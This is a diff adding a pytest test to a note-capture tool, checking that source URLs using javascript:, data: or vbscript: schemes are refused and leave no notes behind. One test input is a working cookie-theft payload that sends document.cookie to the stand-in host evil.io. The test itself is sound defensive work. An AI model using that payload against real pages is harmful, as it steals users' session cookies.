@@ -614,3 +614,12 @@ def test_a_title_that_is_a_windows_device_name_gets_a_file_name_windows_can_stor
     name = result.path.rsplit("/", 1)[-1]
     assert name == f"{title.lower()}-note.md" and (repo / result.path).is_file()
     assert f"title: {title}" in (repo / result.path).read_text()
+
+
+@pytest.mark.parametrize("url", ["javascript:fetch('https://evil.io/?c='+document.cookie)", " JavaScript:alert(1)",
+                                 "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"])  # fmt: skip
+def test_a_source_url_that_runs_code_is_refused(capturer: Capturer, repo: Path, url: str) -> None:
+    before = sorted(p.relative_to(repo).as_posix() for p in repo.rglob("*.md"))
+    with pytest.raises(CaptureRefused, match="not where the note came from"):
+        capturer.capture(CaptureRequest(title="Link check", body="b", source_url=url))
+    assert sorted(p.relative_to(repo).as_posix() for p in repo.rglob("*.md")) == before
